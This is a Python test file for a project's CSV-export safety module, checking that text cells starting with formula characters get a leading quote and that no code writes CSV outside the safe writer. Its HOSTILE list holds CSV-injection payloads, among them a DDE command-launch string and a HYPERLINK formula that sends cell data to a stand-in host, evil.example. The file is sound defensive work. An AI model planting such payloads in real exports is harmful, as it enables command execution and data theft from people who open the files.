"""Every CSV the product writes neutralises spreadsheet formulas in text cells."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path

import polars as pl
import pytest

from linkwork.core.csv_safety import neutralise, restore, safe_cell, safe_writer, write_frame_csv

SOURCE = Path(__file__).resolve().parents[2]  # src/linkwork
SAFE_MODULE = SOURCE / "core" / "csv_safety.py"

# What writes CSV: the csv module's writers, polars/pandas frame writers, DuckDB's COPY.
RAW_WRITERS = re.compile(
    r"csv\.writer\(|csv\.DictWriter\(|\bDictWriter\(|\.write_csv\(|\.sink_csv\(|\.to_csv\("
    r"|\bCOPY\b.*\bTO\b"
)

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def _sources() -> list[Path]:
    return [
        path
        for path in SOURCE.rglob("*.py")
        if "tests" not in path.parts and "migrations" not in path.parts and path != SAFE_MODULE
    ]


# Reads the database's own rows back into the process through `COPY ... TO STDOUT`: CSV that
# no person ever opens, parsed straight into polars.
BULK_READER = SOURCE / "core" / "bulk_read.py"
# Splits a large export into parts that the import reads straight back: CSV no person opens,
# whose cells must stay exactly as the export gave them (a formula is a problem the import
# reports on its row, so it must reach the import unchanged).
PARTS_WRITER = SOURCE / "imports" / "harmonise" / "partition.py"


def test_no_module_writes_csv_except_through_the_safe_writer() -> None:
    offenders = []
    for path in _sources():
        if path in (BULK_READER, PARTS_WRITER):
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            if RAW_WRITERS.search(line):
                offenders.append(f"{path.relative_to(SOURCE)}:{number}: {line.strip()}")
    assert offenders == [], "write CSV through linkwork.core.csv_safety:\n" + "\n".join(offenders)


def test_every_module_serving_csv_uses_the_safe_writer() -> None:
    serving = [
        path
        for path in _sources()
        if "text/csv" in path.read_text(encoding="utf-8")
        and "linkwork.core.csv_safety" not in path.read_text(encoding="utf-8")
        # The data package's descriptor names the media type of files written elsewhere.
        and path.name != "package.py"
    ]
    assert serving == []


def test_the_scanner_sees_a_raw_writer() -> None:
    assert RAW_WRITERS.search("    writer = csv.writer(response)")
    assert RAW_WRITERS.search("frame.write_csv(path)")
    assert RAW_WRITERS.search("con.execute(\"COPY people TO 'x.csv'\")")
    assert not RAW_WRITERS.search("writer = safe_writer(response)")


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_is_prefixed_with_a_quote_and_restores(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("text", ["Ann", "O'Brien", "'t Hooft", "", "a=b", "EH1 1AA"])
def test_ordinary_text_is_untouched(text: str) -> None:
    assert neutralise(text) == text
    assert restore(text) == text


def test_numbers_dates_and_empties_are_values_not_text() -> None:
    assert safe_cell(-3) == -3
    assert safe_cell(-3.25) == -3.25
    assert safe_cell(Decimal("-0.0000001")) == "-0.0000001"
    assert safe_cell(date(2026, 1, 2)) == date(2026, 1, 2)
    assert safe_cell(None) is None
    assert safe_cell(True) is True


def test_the_writer_neutralises_text_cells_only() -> None:
    buffer = io.StringIO(newline="")
    safe_writer(buffer, lineterminator="\n").writerow(["=1+1", -4, "-4", Decimal("-4.5")])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'=1+1", "-4", "'-4", "-4.5"]


def test_frames_keep_numeric_columns_and_guard_text_columns(tmp_path: Path) -> None:
    frame = pl.DataFrame({"name": HOSTILE, "delta": [-1, -2, 3, -4, 5, -6, 7]})
    write_frame_csv(frame, tmp_path / "f.csv")
    back = pl.read_csv(tmp_path / "f.csv")
    assert back["delta"].dtype == pl.Int64
    assert back["delta"].to_list() == [-1, -2, 3, -4, 5, -6, 7]
    assert back["name"].to_list() == ["'" + text for text in HOSTILE]
